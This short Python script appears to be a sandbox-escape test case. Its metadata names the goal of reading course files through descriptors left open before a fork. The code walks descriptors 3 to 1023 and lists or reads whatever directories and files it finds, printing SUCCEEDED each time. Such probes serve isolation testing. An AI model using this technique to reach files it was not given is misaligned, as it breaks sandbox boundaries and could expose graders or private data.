"""
goal = "Read files of the course through descriptors that were open before the fork."
evidence = "printed"
base = "right"
"""
# %% attack
import os
import stat

for number in range(3, 1024):
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISDIR(mode) and os.listdir(number):
            print("SUCCEEDED: listed the folder behind descriptor", number)
        if stat.S_ISREG(mode) and os.pread(number, 1, 0):
            print("SUCCEEDED: read the file behind descriptor", number)
    except OSError:
        continue
